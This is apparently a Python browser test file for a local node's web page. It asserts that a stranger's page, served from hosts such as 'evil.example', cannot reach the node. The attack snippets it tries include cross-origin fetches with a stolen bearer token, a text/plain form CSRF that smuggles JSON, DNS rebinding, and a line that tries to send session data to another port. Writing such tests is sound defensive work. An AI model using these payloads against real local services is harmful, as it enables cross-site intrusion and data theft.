"""Pages of strangers try to use the page of a node that is open in the same browser; all of it is refused."""

import json
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from functools import partial
from pathlib import Path

import h11
import trio

from spacedrive_node.tests.harness.browser import Browser
from spacedrive_node.tests.harness.node_page import open_node_page
from spacedrive_node.tests.harness.nodes import DEADLINE, Node, running_node

WEB = "127.0.0.1:0"
STRANGER = b"<!doctype html><title>stranger</title><p>hello"
ATTACKS = {
    "read": "fetch(PAGE).then(r => r.status, () => 'refused')",
    "read without cors": "fetch(PAGE, {mode: 'no-cors'}).then(r => r.type, () => 'refused')",
    "change": "fetch(PAGE + 'api/start', {method: 'POST', body: BODY}).then(r => r.status, () => 'refused')",
    "change with a stolen token": (
        "fetch(PAGE + 'api/start', {method: 'POST', body: BODY, headers: HEADERS})"
        ".then(r => r.status, () => 'refused')"
    ),
    "events with a stolen token": (
        "fetch(PAGE + 'api/events', {headers: HEADERS}).then(r => r.status, () => 'refused')"
    ),
    "script": "load('script', {type: 'module', src: PAGE + 'page.js'})",
    "image": "load('img', {src: PAGE + 'icon.svg'})",
    "style": "load('link', {rel: 'stylesheet', href: PAGE + 'page.css'})",
}
"""Each returns what it got, or "refused"."""
LOAD = """
globalThis.load = (tag, values) => new Promise(done => {
  const made = Object.assign(document.createElement(tag), values);
  made.onload = () => done('loaded');
  made.onerror = () => done('refused');
  document.body.append(made);
})
"""
FORM = """
(() => {
  const there = Object.assign(document.createElement('iframe'), {name: 'there'});
  const form = document.createElement('form');
  Object.assign(form, {method: 'post', target: 'there', enctype: 'text/plain', action: PAGE + 'api/start'});
  const field = document.createElement('input');
  Object.assign(field, {name: BODY.replace('}', ', "x": "'), value: '"}'});
  form.append(field);
  document.body.append(there, form);
  const sent = new Promise(done => there.onload = () => done('answered'));
  form.submit();
  return sent;
})()
"""
MARKUP = """
(() => { try { document.body.innerHTML = '<p>x'; return 'set'; } catch (e) { return e.name; } })()
"""
SCRIPT = """
(() => {
  const script = document.createElement('script');
  try { script.append('globalThis.taken = 1'); document.body.append(script); } catch {}
  return globalThis.taken ?? 'refused';
})()
"""
SEND_AWAY = "fetch('http://127.0.0.1:%d/?' + sessionStorage.length).then(() => 'sent', () => 'refused')"


def attack_base(node: Node) -> str:
    """Return a script that sets what the attacks use: the page's address, a body, headers with the token."""
    headers = {"Authorization": f"Bearer {node.ready.page_token}", "Content-Type": "application/json"}
    values = {"PAGE": node.ready.page, "BODY": json.dumps({"key": "0" * 32}), "HEADERS": headers}
    return f"Object.assign(globalThis, {json.dumps(values)}); {LOAD}; 0"


@asynccontextmanager
async def strangers_site() -> AsyncIterator[int]:
    """Serve a page of a stranger on another port of this host; yield the port."""

    async def serve(stream: trio.SocketStream) -> None:
        http = h11.Connection(h11.SERVER)
        while not isinstance(event := http.next_event(), h11.EndOfMessage):
            if event is h11.NEED_DATA:
                http.receive_data(await stream.receive_some(65536))
            elif isinstance(event, h11.ConnectionClosed):
                return
        kind, size = ("content-type", "text/html"), ("content-length", str(len(STRANGER)))
        head = http.send(h11.Response(status_code=200, headers=[kind, size, ("connection", "close")]))
        await stream.send_all((head or b"") + (http.send(h11.Data(data=STRANGER)) or b""))

    async with trio.open_nursery() as nursery:
        (listener,) = await nursery.start(partial(trio.serve_tcp, serve, 0, host="127.0.0.1"))
        yield listener.socket.getsockname()[1]
        nursery.cancel_scope.cancel()


async def test_a_page_of_a_stranger_gets_nothing(browser: Browser, tmp_path: Path) -> None:
    """Not by fetch, with the very token, nor by script, image, style, form or frame."""
    async with running_node(tmp_path, "anna", web=WEB) as a, strangers_site() as port:
        with trio.fail_after(2 * DEADLINE):
            own = await open_node_page(browser, a)
            page = await browser.open_page()
            for host in ("evil.example", "127.0.0.1", "localhost"):
                await page.goto(f"http://{host}:{port}/")
                await page.evaluate(attack_base(a))
                for name, script in ATTACKS.items():
                    assert await page.evaluate(script) == "refused", (host, name)
                await page.evaluate(FORM)
                page.failed.clear()
                await page.evaluate("load('iframe', {src: PAGE})")
                assert page.failed == ["net::ERR_BLOCKED_BY_RESPONSE"], host
            assert await a.client.sessions() == []
            assert await own.evaluate("document.querySelectorAll('#sessions li').length") == 0
            assert own.problems == []


async def test_a_name_that_dns_leads_here_gets_nothing(browser: Browser, tmp_path: Path) -> None:
    """DNS rebinding: for the browser the stranger's page and the node's have one origin."""
    async with running_node(tmp_path, "anna", web=WEB) as a:
        with trio.fail_after(2 * DEADLINE):
            port = str(a.ready.page).rstrip("/").rpartition(":")[2]
            page = await browser.open_page()
            await page.goto(f"http://evil.example:{port}/#{a.ready.page_token}")
            assert "this page is for" in await page.evaluate("document.body.textContent")
            headers = json.dumps({"Authorization": f"Bearer {a.ready.page_token}"})
            asked = f"fetch('/api/events', {{headers: {headers}}}).then(r => r.status, () => 'refused')"
            assert await page.evaluate(asked) in (421, "refused")


async def test_what_gets_into_the_page_is_not_run(browser: Browser, tmp_path: Path) -> None:
    """If markup came in after all: no inline script, no string as markup, and nothing is sent elsewhere."""
    async with running_node(tmp_path, "anna", web=WEB) as a, strangers_site() as port:
        with trio.fail_after(2 * DEADLINE):
            page = await open_node_page(browser, a)
            assert await page.evaluate(MARKUP) == "TypeError"
            assert await page.evaluate(SCRIPT) == "refused"
            assert await page.evaluate(SEND_AWAY % port) == "refused"
